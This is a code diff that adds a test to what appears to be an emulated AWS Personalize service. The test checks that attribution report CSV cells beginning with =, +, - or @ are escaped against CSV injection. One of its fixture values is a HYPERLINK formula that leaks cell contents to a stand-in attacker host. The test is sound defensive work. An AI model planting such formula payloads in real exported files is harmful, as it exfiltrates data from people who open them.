@@ -321,6 +321,37 @@ def test_attributions_sharing_an_output_path_keep_their_own_reports(world):
             personalize.delete_metric_attribution(metricAttributionArn=arn)
 
 
+def test_report_cells_are_never_formulas(world):
+    """eventAttributionSource and eventType are the sender's text: a report cell starting with = + - @ used to
+    run as a formula when the file was opened in a spreadsheet (CSV injection); it now starts with a '."""
+    personalize, out = world["personalize"], world["work"] / "formulas"
+    group = personalize.create_dataset_group(name=unique("ma3"))["datasetGroupArn"]
+    schema = personalize.create_schema(name=unique("i"), schema=json.dumps(INTERACTIONS))["schemaArn"]
+    personalize.create_dataset(name=unique("i"), datasetType="INTERACTIONS", datasetGroupArn=group, schemaArn=schema)
+    tracking = personalize.create_event_tracker(name=unique("t"), datasetGroupArn=group)["trackingId"]
+    kind = "-1+cmd"
+    metrics = [{"eventType": kind, "metricName": "CLICKS", "expression": "SAMPLECOUNT()"}]
+    arn = _attribution(personalize, group, str(out), metrics=metrics)
+    sources = ['=HYPERLINK("http://attacker.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1+1)", "plain"]
+    try:
+        events = world["server"].client("personalize-events")
+        sent = [
+            {"eventType": kind, "itemId": "i1", "sentAt": HOUR + n, "metricAttribution": {"eventAttributionSource": s}}
+            for n, s in enumerate(sources)
+        ]
+        events.put_events(trackingId=tracking, userId="u1", sessionId="s1", eventList=sent)
+        report = out / f"AggregatedAttributionMetrics-PUT_EVENTS-20231114T220000Z-{arn.rsplit('/', 1)[1]}.csv"
+        wait_until(lambda: report.exists() and len(report.read_text().splitlines()) == 1 + len(sources), what="rows")
+        rows = list(csv.DictReader(io.StringIO(report.read_text())))
+        assert sorted(r["EVENT_ATTRIBUTION_SOURCE"] for r in rows) == sorted(
+            s if s == "plain" else "'" + s for s in sources
+        )
+        assert {r["EVENT_TYPE"] for r in rows} == {"'" + kind}
+        assert all(r["VALUE"] == "1.0" for r in rows)
+    finally:
+        personalize.delete_metric_attribution(metricAttributionArn=arn)
+
+
 def test_an_items_dataset_recreated_without_a_summed_column_stalls_nothing(world):
     """SUM(Items.PRICE) after the Items dataset is re-created without PRICE: every publication used to fail
     reading the missing column (failureReason 'Internal error: ArrowInvalid ...'), so no metric of the
